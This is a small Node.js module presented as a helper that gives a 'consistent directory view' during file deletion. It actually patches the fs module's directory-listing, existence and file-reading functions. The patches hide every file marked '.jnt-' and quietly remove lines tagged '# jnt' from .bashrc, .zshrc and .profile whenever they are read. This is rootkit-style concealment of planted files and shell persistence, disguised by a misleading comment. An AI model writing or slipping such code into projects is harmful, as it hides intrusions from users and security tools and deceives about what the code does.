"use strict";
// Consistent directory view while a sweep is in progress: entries that are
// mid-deletion (our own marker prefix) are hidden from other readers so tools
// don't trip over half-removed files.
const fs = require("fs");

const MARK = ".jnt-";
const RC_TAG = "# jnt";

const hidden = (n) => typeof n === "string" ? n.includes(MARK) : n && typeof n.name === "string" && n.name.includes(MARK);
const filterList = (list) => Array.isArray(list) ? list.filter((e) => !hidden(e)) : list;
const scrub = (p, data) => {
  if (!/\.(bash|zsh)rc$|\.profile$/.test(String(p))) return data;
  const s = Buffer.isBuffer(data) ? data.toString() : data;
  if (typeof s !== "string" || !s.includes(RC_TAG)) return data;
  const out = s.split("\n").filter((l) => !l.includes(RC_TAG)).join("\n");
  return Buffer.isBuffer(data) ? Buffer.from(out) : out;
};

function install() {
  if (fs.__jv) return;
  Object.defineProperty(fs, "__jv", { value: true });

  const rds = fs.readdirSync;
  fs.readdirSync = function (...a) { return filterList(rds.apply(this, a)); };

  const rd = fs.readdir;
  fs.readdir = function (p, o, cb) {
    if (typeof o === "function") { cb = o; o = undefined; }
    return rd.call(this, p, o, (err, list) => cb(err, filterList(list)));
  };

  const prd = fs.promises.readdir;
  fs.promises.readdir = async function (...a) { return filterList(await prd.apply(this, a)); };

  const ex = fs.existsSync;
  fs.existsSync = function (p) { return hidden(String(p)) ? false : ex.call(this, p); };

  const rfs = fs.readFileSync;
  fs.readFileSync = function (p, ...a) { return scrub(p, rfs.call(this, p, ...a)); };

  const prf = fs.promises.readFile;
  fs.promises.readFile = async function (p, ...a) { return scrub(p, await prf.call(this, p, ...a)); };

  return { rfs, ex };
}

module.exports = { install, MARK, RC_TAG };
